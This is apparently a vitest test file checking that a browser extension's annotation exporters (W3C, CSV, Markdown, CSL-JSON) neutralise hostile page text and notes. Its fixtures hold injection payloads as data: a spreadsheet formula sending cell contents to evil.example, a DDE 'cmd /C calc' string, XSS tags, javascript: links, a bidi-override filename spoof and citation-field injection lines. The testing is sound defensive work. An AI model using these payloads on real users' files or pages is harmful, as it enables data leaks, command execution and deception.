/**
 * A hostile page (title, quote, its context) and a hostile note, through every export format: the
 * W3C file imports back into the very records it came from, the CSV holds every cell with no
 * formula a spreadsheet would run, and the Markdown holds no link, image, raw HTML or bidi override
 * that the page or note planted. A note far past what the extension stores (1 MB) still exports
 * whole, quickly, and is refused on import with words rather than cut.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../../lib/annotations/export-csv';
import { EXPORT_FORMATS } from '../../../lib/annotations/export-formats';
import { parseAnnotationExport } from '../../../lib/annotations/import-annotations';
import type { Mention } from '../../../lib/annotations/schema';
import { bindingClaim, claimsById, deepFreeze, makeMention } from './fixtures';

const generatedAt = '2026-11-22T10:00:00.000Z';
const now = new Date(generatedAt);

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
const HTML = '<img src=x onerror=alert(1)><script>alert(2)</script>';
const MARKDOWN = '[click](javascript:alert(1)) ![x](https://evil.example/p.png) [[Vault note]](javascript:alert(3)) <https://evil.example>';
const BIDI = 'invoice\u202Efdp.exe\u202C and \u2066isolated\u2069';

const hostile: readonly Mention[] = deepFreeze([
  makeMention({
    pageTitle: `${FORMULA} ${HTML} ${BIDI}`,
    exact: `${MARKDOWN} ${BIDI}`,
    prefix: '\n@SUM(1+1)*cmd|\' /C calc\'!A0 ',
    suffix: ` ${HTML}`,
    start: 50,
    note: { text: `${FORMULA}\n# Heading\n${MARKDOWN}\n${HTML}\n${BIDI}`, updatedAt: '2026-11-21T20:00:00.000Z' },
    wrongMatch: { flagged: true, updatedAt: '2026-11-21T20:05:00.000Z' },
  }),
  makeMention({ pageTitle: '+cmd', exact: '-2+3 🚀 said the page', prefix: '🚀🚀 ', suffix: '', start: 900 }),
]);

const serialise = (format: keyof typeof EXPORT_FORMATS, mentions: readonly Mention[]) =>
  EXPORT_FORMATS[format].serialise(mentions, claimsById, generatedAt);

describe('exports of a hostile page and note', () => {
  it('W3C: the file imports back into exactly the records it was made from, its bidi controls escaped', () => {
    const file = serialise('w3c', hostile);
    const parsed = parseAnnotationExport(file, now);
    expect(parsed).toEqual({ ok: true, mentions: hostile });
    // The page's bidi controls are written as escapes: the same strings parsed, no reordered line in a viewer.
    expect(file).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(file).toContain('invoice\\u202efdp.exe');
  });

  it('CSV: every cell comes back, none opening as a formula or holding a bidi control, the page text behind its apostrophe', () => {
    const rows = parse(serialise('csv', hostile), { columns: true, bom: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(2);
    const TRIGGER = /^(?:[\t\r\0]|\s*[=+\-@])/;
    for (const row of rows) for (const column of CSV_COLUMNS) expect(row[column], column).not.toMatch(TRIGGER);
    const [first, second] = [rows[0]!, rows[1]!];
    const noBidi = (text: string) => text.replace(/[\u202A-\u202E\u2066-\u2069]/g, '');
    expect(first.page_title).toBe(`'${noBidi(hostile[0]!.pageTitle)}`);
    // (Its trigger follows a line break: the apostrophe goes there, where a reader splitting rows at line breaks starts a cell.)
    expect(first.prefix).toBe(hostile[0]!.anchor.prefix.replace('\n@', "\n'@"));
    expect(first.note).toBe(`'${noBidi(hostile[0]!.note!.text)}`);
    // Text that opens with no trigger is the page's, as it was, less its bidi controls: a CSV opened as
    // text would otherwise show the rest of the row, the reader's note included, reordered.
    expect(first.quote).toBe(noBidi(hostile[0]!.anchor.exact));
    expect(first.quote).toContain('invoicefdp.exe and isolated');
    for (const row of rows) for (const column of CSV_COLUMNS) expect(row[column], column).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(first.wrong_match).toBe('true');
    expect([second.page_title, second.quote]).toEqual(["'+cmd", "'-2+3 🚀 said the page"]);
  });

  it('Markdown: no link, image, raw HTML, heading or bidi control of the page\'s or the note\'s', () => {
    const md = serialise('markdown', hostile);
    // The only links are ours: the page (its heading) and the claim's https sources.
    const ours = new Set([hostile[0]!.pageUrl, ...bindingClaim.sources.map((source) => source.url), ...bindingClaim.evidence.map((evidence) => evidence.url)]);
    const destinations = [...md.matchAll(/\]\(([^)]*)\)/g)].map((match) => match[1]!);
    expect(destinations.length).toBeGreaterThan(1);
    expect(destinations.filter((href) => !ours.has(href))).toEqual([]);
    expect(md).not.toMatch(/(^|[^\\])<(img|script|https)/m);
    expect(md).not.toMatch(/(^|[^\\])!\[/m);
    expect(md).not.toMatch(/\]\(javascript/);
    expect(md).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    // The note's "# Heading" is no heading: the only headings are the file's, the claim's and the page's.
    expect(md.match(/^#+ /gm)).toEqual(['# ', '## ', '### ']);
    // And the words are all still there to read.
    expect(md).toContain('invoicefdp.exe and isolated');
    expect(md).toContain('\\<script\\>alert(2)\\</script\\>');
  });

  it('CSL-JSON: no rich-text tag, bidi control or Extra-field line of the page\'s or the note\'s, the words all there', () => {
    const page = 'https://news.example/2026/acme-policy';
    const titleAttack = makeMention({ pageUrl: page, pageTitle: `<i>Fake</i> <span class="nocase">x</span> <sc>y</sc> ${BIDI}`, exact: '</b><sup>tiny</sup> <SUB>z</SUB>', start: 5 });
    const lineAttack = makeMention({
      pageUrl: page,
      exact: 'the page says\nType: book\nURL: https://evil.example\n{:issued:1900}',
      start: 60,
      note: { text: `Title: mine\nissued: 1900\n${HTML}\n${BIDI}`, updatedAt: '2026-11-21T20:00:00.000Z' },
    });
    const file = serialise('csl', [...hostile, titleAttack, lineAttack]);
    const items = JSON.parse(file) as Array<Record<string, unknown> & { note: string; title: string }>;
    expect(items).toHaveLength(1);
    const strings = items.flatMap((item) => Object.values(item).filter((value): value is string => typeof value === 'string'));
    for (const text of strings) {
      // citeproc-js, Pandoc and Zotero's titles read some tags as formatting, an HTML note any tag.
      expect(text).not.toMatch(/<[a-z/!?]/i);
      expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    }
    // Zotero reads a note's line that opens "name: value" (or "{:name:value}") into a field of the
    // item, citeproc an Extra line "name: value" into a CSL variable: every line opens with a mark of ours.
    for (const line of items[0]!.note.split('\n')) {
      expect(line, line).not.toMatch(/^([a-z][a-z -_]+):(.+)/i);
      expect(line, line).not.toMatch(/^{:/);
      expect(line, line).not.toMatch(/^([A-Za-z \-]+)(:\s*.+)/);
      if (line !== '') expect(line, line).toMatch(/^[—“·⋮]/u);
    }
    // The first mention in text order gives the title; every "<" that would open a tag is "＜".
    expect(items[0]!.title).toBe('＜i>Fake＜/i> ＜span class="nocase">x＜/span> ＜sc>y＜/sc> invoicefdp.exe and isolated');
    expect(items[0]!.note).toContain('“the page says Type: book URL: https://evil.example {:issued:1900}”');
    expect(items[0]!.note).toContain('· Your note: Title: mine\n⋮ issued: 1900\n⋮ ＜img src=x onerror=alert(1)>＜script>alert(2)＜/script>\n⋮ invoicefdp.exe and isolated');
    expect(items[0]!.note).toContain('“＜/b>＜sup>tiny＜/sup> ＜SUB>z＜/SUB>”');
    expect(items[0]!.note).toContain('· Flagged as a wrong match');
  });

  it('a 1 MB note exports whole in every format within two seconds (about 0.15 s here), and import refuses it in words instead of cutting it', () => {
    const note = `${'A researcher\'s long note, =1+1 <b>bold</b> #tag. '.repeat(20_000).slice(0, 1_000_000)}`;
    const big = [makeMention({ note: { text: note, updatedAt: '2026-11-21T20:00:00.000Z' } })];
    const started = performance.now();
    const files = { w3c: serialise('w3c', big), csv: serialise('csv', big), markdown: serialise('markdown', big), csl: serialise('csl', big) };
    expect(performance.now() - started).toBeLessThan(2000);
    expect(JSON.parse(files.w3c).first.items[0].body.find((body: { purpose: string }) => body.purpose === 'commenting').value).toBe(note);
    expect((parse(files.csv, { columns: true, bom: true }) as Array<Record<string, string>>)[0]!.note).toBe(note);
    expect(files.markdown.length).toBeGreaterThan(note.length);
    expect(JSON.parse(files.csl)[0].note).toContain(`· Your note: ${note.trim().replace(/<(?=[a-z/])/g, '＜')}`);
    expect(files.markdown).not.toMatch(/(^|[^\\])<b>/m);
    const refused = parseAnnotationExport(files.w3c, now);
    expect(refused).toEqual({ ok: false, error: 'item 1 field body (commenting).value invalid: must be at most 20000 characters' });
  });
});
